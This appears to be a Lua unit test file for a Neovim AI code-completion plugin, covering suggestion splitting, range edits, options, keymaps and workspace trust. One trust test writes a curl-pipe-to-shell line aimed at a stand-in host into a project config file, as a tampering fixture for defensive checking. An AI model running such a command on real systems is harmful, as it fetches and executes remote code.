-- Pure logic, in headless Neovim without a server:
--   nvim --headless -u NONE -i NONE -n -c "luafile tests/unit_spec.lua"
local H = dofile(vim.fn.fnamemodify(debug.getinfo(1, "S").source:sub(2), ":p:h") .. "/harness.lua")
local T = H.test
local eq = H.eq
local s = require("codeassist.suggestion")
local config = require("codeassist.config")

-- Word and line splitting --------------------------------------------------------

local function chunks(take, text)
  local result = {}
  while text ~= "" do
    local c = take(text)
    result[#result + 1] = c
    text = text:sub(#c + 1)
  end
  return result
end

T("accept word: punctuation joins the word after it, blanks lead", function()
  eq({ "Console", ".WriteLine", '("hi', '");' }, chunks(s.take_word, 'Console.WriteLine("hi");'),
    "suggestion.take_word must cut before each word, keeping the punctuation in front of it")
  eq({ " return", " a", " + b", ";" }, chunks(s.take_word, " return a + b;"), "take_word with blanks and operators")
end)

T("accept word: a line break takes the next line's indentation with it", function()
  eq({ " x", ";", "\n    ", "y", ";" }, chunks(s.take_word, " x;\n    y;"), "take_word at a line break")
  eq({ "\n\t", "z" }, chunks(s.take_word, "\n\tz"), "take_word keeps tabs as indentation")
end)

T("accept word: non-ASCII letters are word characters", function()
  eq({ "größe", " = 1" }, chunks(s.take_word, "größe = 1"), "take_word must not split UTF-8 letters")
end)

T("accept line: the rest of the line, then each next line with its break", function()
  eq({ "int sum = a + b;", "\n        return sum;", "\n}" }, chunks(s.take_line, "int sum = a + b;\n        return sum;\n}"),
    "suggestion.take_line")
  eq({ "\n", "\nx" }, chunks(s.take_line, "\n\nx"), "take_line with an empty line")
end)

-- Items from LSP -------------------------------------------------------------------

local function line_getter(lines)
  return function(row)
    return lines[row + 1] or ""
  end
end
local function utf16_col(line, character)
  return vim.str_byteindex(line, character, true)
end

T("result: InlineCompletionItem[] and InlineCompletionList both give items", function()
  eq(1, #s.result_items({ { insertText = "a" } }), "a plain array")
  eq(1, #s.result_items({ items = { { insertText = "a" } } }), "an {items} list")
  eq(0, #s.result_items(nil), "a null result")
  eq(0, #s.result_items(vim.NIL), "a JSON null")
end)

T("item without a range starts at the cursor", function()
  local item = s.from_lsp({ insertText = "x + 1;" }, 2, 5, line_getter({}), utf16_col)
  eq({ 2, 5, 0 }, { item.start_row, item.start_col, item.tail }, "from_lsp without range")
end)

T("item range: columns are UTF-16, converted to bytes; the part right of the cursor is the tail", function()
  -- "é" is 2 bytes and 1 UTF-16 unit. The cursor is after "(" (byte 7); the range covers
  -- UTF-16 1..7, bytes 1..8, so the ")" right of the cursor is the tail.
  local lines = { "aé = ()" }
  local raw = {
    insertText = "é = (1)",
    range = { start = { line = 0, character = 1 }, ["end"] = { line = 0, character = 7 } },
    command = { command = "codeassist.didAcceptCompletion", arguments = { "item-7" } },
  }
  local item = s.from_lsp(raw, 0, 7, line_getter(lines), utf16_col)
  eq({ 0, 1, 1, "item-7" }, { item.start_row, item.start_col, item.tail, item.id }, "from_lsp with range")
  eq("1)", s.remaining(item, lines[1], 0, 7), "remaining after what was typed")
end)

T("item whose range starts after the cursor or on another row is dropped", function()
  local raw = { insertText = "x", range = { start = { line = 0, character = 3 }, ["end"] = { line = 0, character = 3 } } }
  eq(nil, s.from_lsp(raw, 0, 1, line_getter({ "abcd" }), utf16_col), "range starting right of the cursor")
  raw.range.start.line, raw.range["end"].line = 1, 1
  eq(nil, s.from_lsp(raw, 0, 3, line_getter({ "abcd", "efgh" }), utf16_col), "range on another row")
end)

T("snippet insertText is reduced to its text", function()
  eq("foo(bar)", s.insert_text({ insertText = { kind = "snippet", value = "foo(${1:bar})$0" } }), "snippet placeholders")
  eq("a$b", s.insert_text({ insertText = { kind = "snippet", value = "a\\$b" } }), "escaped dollar")
  eq("x\ny", s.insert_text({ insertText = "x\r\ny" }), "CRLF becomes LF")
end)

-- What shows as the user types -------------------------------------------------------

T("typing through a suggestion keeps the rest; typing something else drops it", function()
  local item = { text = "return a + b;", start_row = 3, start_col = 8, tail = 0 }
  local line = "        ret"
  eq("urn a + b;", s.remaining(item, line, 3, 11), "typed a prefix of the suggestion")
  eq(nil, s.remaining(item, "        rex", 3, 11), "typed something else")
  eq(nil, s.remaining(item, "        return a + b;", 3, 21), "typed all of it")
  eq(nil, s.remaining(item, line, 4, 11), "moved to another row")
  eq(nil, s.remaining(item, line, 3, 7), "moved left of the start")
end)

-- Range application -------------------------------------------------------------------

local function apply(lines, edit)
  local buf = vim.api.nvim_create_buf(false, true)
  vim.api.nvim_buf_set_lines(buf, 0, -1, false, lines)
  vim.api.nvim_buf_set_text(buf, edit.start_row, edit.start_col, edit.end_row, edit.end_col, edit.lines)
  local result = vim.api.nvim_buf_get_lines(buf, 0, -1, false)
  vim.api.nvim_buf_delete(buf, { force = true })
  return result
end

T("accept replaces exactly the range with the insertText, the tail included", function()
  -- The user typed "Add(" and an auto-pair put ")" after the cursor; the item covers "Add()".
  local lines = { "x = Add()" }
  local item = { text = "Add(a, b)", start_row = 0, start_col = 4, tail = 1 }
  local edit = s.accept_edit(item, 0, 8)
  eq({ "x = Add(a, b)" }, apply(lines, edit), "accept_edit over a range with a tail")
  eq({ 0, 13 }, { edit.cursor_row, edit.cursor_col }, "cursor after the accepted text")
end)

T("accept of a multi-line item ends the cursor on its last line", function()
  local item = { text = " int sum = a + b;\n        return sum;", start_row = 1, start_col = 9, tail = 0 }
  local edit = s.accept_edit(item, 1, 9)
  eq({ "{", "        x int sum = a + b;", "        return sum;", "}" }, apply({ "{", "        x", "}" }, edit), "multi-line accept")
  eq({ 2, 19 }, { edit.cursor_row, edit.cursor_col }, "cursor on the last inserted line")
end)

T("partial accept inserts at the cursor and re-anchors what is left", function()
  local item = { text = "return sum;\nnext", start_row = 0, start_col = 2, tail = 0, id = "i1", accepted = "" }
  local line = "  ret"
  local rest = s.remaining(item, line, 0, 5)
  local edit, left = s.accept_part(item, rest, s.take_word(rest), 0, 5)
  eq({ "  return" }, apply({ line }, edit), "word accepted at the cursor")
  eq({ " sum;\nnext", 0, 8, "return" }, { left.text, left.start_row, left.start_col, left.accepted }, "what is left")
  local rest2 = left.text
  local edit2, left2 = s.accept_part(left, rest2, s.take_line(rest2), 0, 8)
  eq({ "  return sum;" }, apply({ "  return" }, edit2), "line accepted")
  local edit3, left3 = s.accept_part(left2, left2.text, s.take_line(left2.text), 0, 13)
  eq({ "  return sum;", "next" }, apply({ "  return sum;" }, edit3), "next line accepted")
  eq(nil, left3, "nothing left after the last line")
  eq({ 1, 4 }, { edit3.cursor_row, edit3.cursor_col }, "cursor at the end of the accepted line")
end)

T("duplicate candidates are shown once", function()
  local a = { text = "x", start_row = 0, start_col = 0 }
  local b = { text = "y", start_row = 0, start_col = 0 }
  eq({ a, b }, s.unique({ a, b, { text = "x", start_row = 0, start_col = 0 } }), "suggestion.unique")
end)

T("display lines expand tabs", function()
  eq({ "a", "    b" }, s.display_lines("a\n\tb", 4), "display_lines")
end)

-- Options ------------------------------------------------------------------------------

T("options: nested tables merge, lists replace, defaults stay untouched", function()
  local o, problems = config.resolve({ cmd = { "/opt/codeassist/codeassist" }, keymaps = { accept = "<C-y>" }, debounce_ms = 80 })
  eq({}, problems, "valid options must not produce problems")
  eq({ "/opt/codeassist/codeassist" }, o.cmd, "cmd must replace the default list, not merge into it")
  eq("<C-y>", o.keymaps.accept, "a keymap override")
  eq("<M-Right>", o.keymaps.accept_word, "other keymaps keep their defaults")
  eq(80, o.debounce_ms, "debounce_ms")
  eq({ "codeassist", "serve" }, config.defaults.cmd, "resolve must not change the defaults table")
  eq("<M-l>", config.defaults.keymaps.accept, "resolve must not change the default keymaps")
end)

T("options: wrong values are reported and fall back to their defaults", function()
  local o, problems = config.resolve({ device = "tpu", debounce = 10, keymaps = { accept = 3, tab = false } })
  eq("auto", o.device, "an invalid device falls back to auto")
  eq(false, o.keymaps.tab, "a valid key next to an invalid one is kept")
  eq("<M-l>", o.keymaps.accept, "an invalid key falls back")
  eq(3, #problems, "three problems: device, unknown option debounce, keymaps.accept")
  local text = table.concat(problems, "\n")
  H.truthy(text:find('unknown option "debounce"', 1, true), "the unknown option is named: " .. text)
  H.truthy(text:find("device must be", 1, true), "the device problem says what is allowed: " .. text)
end)

T("options: server settings use the protocol's names", function()
  local o = config.resolve({ model_path = "/models/tiny/", device = "cpu", max_tokens = 32, multiline = false, enabled = false })
  eq({ enable = false, modelPath = "/models/tiny", device = "cpu", maxTokens = 32, multiline = false, candidates = 3, contextBudget = 1536 },
    config.server_settings(o), "config.server_settings")
  eq({ "codeassist", "serve", "--log-level", "info" }, config.server_cmd(o), "config.server_cmd appends --log-level")
  eq(nil, config.server_settings(config.resolve({})).modelPath, "no modelPath unless model_path is set")
end)

T("options: a team server backend is passed on; a key in it is refused", function()
  local server = { kind = "llamacpp", url = "https://gpu01:8080", apiKeyEnv = "TEAM_KEY" }
  eq(server, config.server_settings(config.resolve({ backend = server })).backend, "backend goes to the server as is")
  eq(nil, config.server_settings(config.resolve({})).backend, "no backend setting for the local model")
  local o, problems = config.resolve({ backend = { kind = "openai", url = "http://vllm:8000", apiKey = "sk-x" } })
  eq("local", o.backend, "a backend with apiKey falls back to local")
  H.truthy(table.concat(problems, " "):find("without apiKey", 1, true), "the problem says to use apiKeyEnv: " .. table.concat(problems, " "))
end)

-- Root detection ------------------------------------------------------------------------

T("root: a solution above beats the project next to the file; .git last", function()
  local root = vim.fn.tempname()
  vim.fn.mkdir(root .. "/src/App", "p")
  vim.fn.writefile({}, root .. "/All.sln")
  vim.fn.writefile({}, root .. "/src/App/App.csproj")
  local file = root .. "/src/App/Program.cs"
  local client = require("codeassist.client")
  local markers = config.defaults.root_markers
  eq(vim.fn.resolve(root), vim.fn.resolve(client.find_root(file, markers)), "*.sln wins")
  vim.fn.delete(root .. "/All.sln")
  eq(vim.fn.resolve(root .. "/src/App"), vim.fn.resolve(client.find_root(file, markers)), "then *.csproj")
  vim.fn.delete(root, "rf")
end)

-- Keys ------------------------------------------------------------------------------------

T("suggestion keys are buffer-local, and a buffer-local mapping they cover comes back", function()
  local keymaps = require("codeassist.keymaps")
  local buf = vim.api.nvim_get_current_buf()
  vim.api.nvim_buf_set_keymap(buf, "i", "<M-l>", "user-mapping", { noremap = true })
  keymaps.install(buf, { { lhs = "<M-l>", fn = function() end, desc = "x" }, { lhs = "<M-]>", fn = function() end, desc = "y" } })
  H.truthy(vim.fn.maparg("<M-]>", "i", false, true).buffer == 1, "<M-]> must be mapped buffer-locally while a suggestion shows")
  keymaps.remove(buf)
  eq("user-mapping", vim.fn.maparg("<M-l>", "i"), "the user's own <M-l> must be restored")
  eq("", vim.fn.maparg("<M-]>", "i"), "<M-]> must be unmapped when the suggestion goes")
  vim.api.nvim_buf_del_keymap(buf, "i", "<M-l>")
end)

T(":CodeAssist is defined by plugin/codeassist.lua and completes its subcommands", function()
  eq(2, vim.fn.exists(":CodeAssist"), "plugin/codeassist.lua must define :CodeAssist")
  eq({ "disable", "doctor" }, require("codeassist.commands").complete("d"), "subcommand completion")
  local health = vim.api.nvim_get_runtime_file("lua/codeassist/health.lua", false)
  eq(1, #health, "lua/codeassist/health.lua must be on the runtimepath for :checkhealth codeassist")
end)

T("lsp/codeassist.lua is a plain config table with working root markers", function()
  local cfg = dofile(H.plugin_dir .. "/lsp/codeassist.lua")
  eq({ "codeassist", "serve" }, cfg.cmd, "cmd")
  eq({ "cs" }, cfg.filetypes, "filetypes")
  eq(true, cfg.root_markers[1]("All.sln", "/x"), "the first marker matches *.sln")
  eq(false, cfg.root_markers[1]("App.csproj", "/x"), "the first marker does not match *.csproj")
  eq(".git", cfg.root_markers[3], ".git is the last marker")
end)

-- Ghost text in a real buffer, items given directly (no server) -------------------------

local ghost = require("codeassist.ghost")
local compat = require("codeassist.compat")

local function scratch(lines)
  vim.cmd("enew!")
  local buf = vim.api.nvim_get_current_buf()
  vim.bo[buf].bufhidden = "wipe"
  vim.api.nvim_buf_set_lines(buf, 0, -1, false, lines)
  ghost.attach(buf)
  return buf
end

local function mark(buf)
  local m = vim.api.nvim_buf_get_extmarks(buf, ghost.ns, 0, -1, { details = true })[1]
  return m and { row = m[2], col = m[3], text = m[4].virt_text[1][1], pos = m[4].virt_text_pos }
end

T("ghost text right of existing text: inline on 0.10+, eol before; accept replaces the tail", function()
  local buf = scratch({ "    x = Add()" })
  vim.api.nvim_win_set_cursor(0, { 1, 12 }) -- between "(" and ")"
  ghost.show(buf, { { text = "Add(a, b)", start_row = 0, start_col = 8, tail = 1 } })
  eq({ row = 0, col = 12, text = "a, b)", pos = compat.inline_virt_text and "inline" or "eol" }, mark(buf),
    "the rest of the item at the cursor, not hiding the \")\" after it")
  H.truthy(ghost.accept(buf), "accept must report that it accepted")
  eq({ "    x = Add(a, b)" }, H.lines(buf), "accept must replace the range, \")\" included, with exactly the text")
  -- Normal mode puts the cursor on the last character; in Insert mode it goes after it (see e2e).
  eq({ 1, 16 }, vim.api.nvim_win_get_cursor(0), "cursor at the end of the accepted text")
  eq(nil, mark(buf), "nothing shows after accepting")
end)

T("ghost text at the end of a line: overlay before 0.10; more lines as virtual lines", function()
  local buf = scratch({ "  if (x)", "" })
  vim.api.nvim_win_set_cursor(0, { 1, 7 })
  -- In Normal mode the cursor sits on the last character; the item starts after it.
  ghost.show(buf, { { text = ")\n    y();", start_row = 0, start_col = 7, tail = 1 } })
  local m = vim.api.nvim_buf_get_extmarks(buf, ghost.ns, 0, -1, { details = true })[1]
  eq({ { "    y();", ghost.hl } }, m[4].virt_lines[1], "the second line as a virtual line")
  H.truthy(ghost.accept(buf), "accept")
  eq({ "  if (x)", "    y();", "" }, H.lines(buf), "a multi-line accept")
end)

T("<Tab> falls through to the user's mapping while a popup menu shows", function()
  vim.opt.complete = "."
  vim.cmd([[inoremap <expr> <Tab> pumvisible() ? "\<C-n>" : "\<Tab>"]])
  local buf = scratch({ "alpha alpine", "x" })
  vim.api.nvim_win_set_cursor(0, { 2, 0 })
  H.feed("A al<C-n>")
  H.wait(3000, function() return vim.fn.pumvisible() == 1 and H.lines(buf)[2] == "x alpha" end,
    "keyword completion must show a popup menu")
  H.truthy(ghost.show(buf, { { text = "alpha_beta", start_row = 1, start_col = 2, tail = 0 } }), "the suggestion shows")
  H.feed("<Tab>")
  H.wait(3000, function() return H.lines(buf)[2] == "x alpine" end,
    "<Tab> with a popup menu must run the user's <Tab> mapping (select the next match), got " .. H.lines(buf)[2])
  H.feed("<Esc>")
  H.wait(2000, function() return vim.api.nvim_get_mode().mode == "n" end, "leave insert mode")
  vim.cmd("iunmap <Tab>")
end)

T("a missing server is reported once, by name, and nothing is started", function()
  vim.cmd("silent! %bwipeout!")
  local notes = {}
  local notify = vim.notify
  vim.notify = function(message)
    notes[#notes + 1] = message
  end
  require("codeassist").setup({ cmd = { "/nonexistent/codeassist", "serve" } })
  local dir = vim.fn.tempname()
  vim.fn.mkdir(dir, "p")
  vim.cmd("edit " .. dir .. "/A.cs")
  vim.cmd("edit " .. dir .. "/B.cs")
  vim.notify = notify
  eq(1, #notes, "exactly one message for two C# buffers")
  H.truthy(notes[1]:find("/nonexistent/codeassist", 1, true), "the message names the command: " .. notes[1])
  eq({}, require("codeassist.client").clients(), "no client is started")
  vim.cmd("silent! %bwipeout!")
  vim.fn.delete(dir, "rf")
end)


-- Workspace trust ------------------------------------------------------------------

local trust = require("codeassist.trust")

T("trust: a folder contains itself and what lies below it, whole components only", function()
  eq(true, trust.is_within("/src/work", "/src/work"))
  eq(true, trust.is_within("/src/work/repo", "/src/work/"))
  eq(false, trust.is_within("/src/workshop", "/src/work"))
  eq(false, trust.is_within("/src", "/src/work"))
end)

T("trust: trusted_roots trusts a root in or below its folders; other roots are untrusted", function()
  local base = vim.fn.resolve(vim.fn.tempname())
  vim.fn.mkdir(base .. "/ours/repo", "p")
  vim.fn.mkdir(base .. "/oursider", "p")
  local saved = config.current
  config.current = config.resolve({ trusted_roots = { base .. "/ours" } })
  local ok, why = trust.check(base .. "/ours/repo")
  eq(true, ok)
  eq("below trusted_roots entry " .. base .. "/ours", why)
  ok, why = trust.check(base .. "/oursider")
  eq(false, ok)
  eq("not in trusted_roots; :CodeAssist trust grants it", why)
  trust.grant(base .. "/oursider")
  eq({ true, "granted with :CodeAssist trust" }, { trust.check(base .. "/oursider") })
  trust.granted = {}
  config.current = saved
  vim.fn.delete(base, "rf")
end)

T("trust: vim.secure's database trusts a root by directory entry or by an unchanged, allowed exrc; ! denies", function()
  local root = vim.fn.resolve(vim.fn.tempname())
  vim.fn.mkdir(root, "p")
  local exrc = root .. "/.nvim.lua"
  vim.fn.writefile({ "vim.o.shiftwidth = 4" }, exrc)
  local db = root .. ".trust"
  vim.fn.writefile({ vim.fn.sha256("vim.o.shiftwidth = 4\n") .. " " .. exrc, "0000 /elsewhere/.nvim.lua" }, db)
  eq(true, trust.database_verdict(root, trust.read_database(db)), "an allowed, unchanged .nvim.lua trusts its root")
  vim.fn.writefile({ "os.execute('curl evil | sh')" }, exrc)
  eq(nil, trust.database_verdict(root, trust.read_database(db)), "a changed .nvim.lua no longer trusts its root")
  eq(true, trust.database_verdict(root, { [root] = "directory" }))
  eq(false, trust.database_verdict(root, { [root] = "!", [exrc] = vim.fn.sha256("x") }))
  eq({}, trust.read_database(root .. "/none"))
  vim.fn.delete(root, "rf")
  vim.fn.delete(db)
end)

T("trust: an untrusted root's server gets --untrusted and untrusted = true", function()
  local o = config.resolve({ cmd = { "codeassist", "serve" } })
  eq({ "codeassist", "serve", "--log-level", "info", "--untrusted" }, config.server_cmd(o, true))
  eq({ "codeassist", "serve", "--log-level", "info" }, config.server_cmd(o, false))
  eq(true, config.server_settings(o, true).untrusted)
  eq(nil, config.server_settings(o).untrusted)
  local _, problems = config.resolve({ trusted_roots = "~/src" })
  eq({ 'trusted_roots must be a list of folders such as { "~/src/work" } (got "~/src")' }, problems)
end)

T("doc/codeassist.txt documents every option, key and subcommand, and its tags build", function()
  local text = table.concat(vim.fn.readfile(H.plugin_dir .. "/doc/codeassist.txt"), "\n")
  for key in pairs(config.defaults) do
    H.truthy(text:find("*codeassist-option-" .. key .. "*", 1, true), "doc/codeassist.txt lacks *codeassist-option-" .. key .. "*")
  end
  for key in pairs(config.defaults.keymaps) do
    H.truthy(text:find("*codeassist-" .. key .. "*", 1, true), "doc/codeassist.txt lacks *codeassist-" .. key .. "*")
  end
  for name in pairs(require("codeassist.commands").subcommands) do
    H.truthy(text:find("*:CodeAssist-" .. name .. "*", 1, true), "doc/codeassist.txt lacks *:CodeAssist-" .. name .. "*")
  end
  local dir = vim.fn.tempname()
  vim.fn.mkdir(dir, "p")
  vim.fn.writefile(vim.fn.readfile(H.plugin_dir .. "/doc/codeassist.txt"), dir .. "/codeassist.txt")
  local ok, err = pcall(vim.cmd, "helptags " .. vim.fn.fnameescape(dir))
  vim.fn.delete(dir, "rf")
  H.truthy(ok, "helptags failed on doc/codeassist.txt: " .. tostring(err))
end)

T("file watching: Neovim's own watcher when its capabilities offer it, else the server's", function()
  local compat = require("codeassist.compat")
  eq(true, compat.watches_files({ workspace = { didChangeWatchedFiles = { dynamicRegistration = true } } }),
    "a client that declares dynamic registration of didChangeWatchedFiles watches for the server")
  eq(false, compat.watches_files({ workspace = { didChangeWatchedFiles = { dynamicRegistration = false } } }),
    "Neovim 0.9+ on Linux declares it off")
  eq(false, compat.watches_files({ workspace = {} }), "Neovim 0.7 and 0.8 do not declare it")
  local expected = compat.watches_files() and "Neovim's file watcher" or "the server's own file watcher"
  eq(expected, compat.describe().files, "describe() names what watches files in this Neovim")
  H.truthy(table.concat(require("codeassist.commands").status_lines(), "\n"):find("disk changes: " .. expected, 1, true),
    ":CodeAssist status shows what watches files")
end)

-- Next edits -----------------------------------------------------------------------

local CHECKOUT, ORDER = "file:///work/Shop/Checkout.cs", "file:///work/Shop/Order.cs"
local function next_edit(version)
  return {
    textDocument = { uri = CHECKOUT, version = version },
    range = { start = { line = 7, character = 31 }, ["end"] = { line = 7, character = 31 } },
    newText = ', ""',
    reason = "CS7036",
  }
end
local accept_command = { title = "Accept CodeAssist next edit", command = "codeassist.didAcceptNextEdit", arguments = { "ne1" } }

T("next edit: the reply's first edit is kept with its command; none, null or an empty list show nothing", function()
  local ne = require("codeassist.nextedit")
  local none = function() return nil end
  eq({ edit = next_edit(), command = accept_command }, ne.pick({ edits = { next_edit(), next_edit(3) }, command = accept_command }, none), "first edit")
  eq(nil, ne.pick({ edits = {} }, none), "no edit")
  eq(nil, ne.pick(vim.NIL, none), "a JSON null")
  eq({ edit = next_edit(), command = nil }, ne.pick({ edits = { next_edit() }, command = vim.NIL }, none), "no command")
end)

T("next edit: an edit for another version of a loaded buffer is dropped, one read from disk is kept", function()
  local ne = require("codeassist.nextedit")
  eq(nil, ne.pick({ edits = { next_edit(3) } }, function() return 4 end), "stale version")
  eq(next_edit(3), ne.pick({ edits = { next_edit(3) } }, function() return 3 end).edit, "same version")
  eq(next_edit(3), ne.pick({ edits = { next_edit(3) } }, function() return nil end).edit, "buffer not loaded")
  eq(next_edit(), ne.pick({ edits = { next_edit() } }, function() return 9 end).edit, "no version: from disk")
end)

T("next edit: the line as it will read, the hint, and where the key accepts", function()
  local ne = require("codeassist.nextedit")
  local call = '        order.AddLine("tea", 2m);'
  eq({ '        order.AddLine("tea", 2m, "");' }, ne.result_lines(call, call, 31, 31, ', ""'), "an insertion")
  eq({ "    if (x)", "        y();" }, ne.result_lines("    y();", "    y();", 4, 8, "if (x)\n        y();"), "new lines")
  eq("    a + c", ne.result_lines("    a +", "    b", 7, 5, " c")[1], "a range over two lines joins them")
  eq("<M-n>: next edit at Checkout.cs:8", ne.hint(next_edit(), ORDER, "<M-n>"), "another file: its name and line")
  eq(":CodeAssist next: next edit at line 8", ne.hint(next_edit(), CHECKOUT, nil), "same file, no key mapped")
  eq(true, ne.on_edit(next_edit(), CHECKOUT, 7), "on the edit's line")
  eq(false, ne.on_edit(next_edit(), CHECKOUT, 6), "another line")
  eq(false, ne.on_edit(next_edit(), ORDER, 7), "another file")
end)

T("next edit: the option and its keys have defaults and are validated", function()
  local o, problems = config.resolve({ next_edit = "yes", keymaps = { next_edit = 3 } })
  eq(true, o.next_edit, "an invalid next_edit falls back to true")
  eq("<M-n>", o.keymaps.next_edit, "an invalid key falls back to <M-n>")
  eq(2, #problems, "both problems are reported")
  eq("<M-N>", config.defaults.keymaps.next_edit_dismiss, "dismiss default")
  eq(false, config.resolve({ next_edit = false }).next_edit, "next_edit = false turns it off")
end)

H.run("unit", 60000)
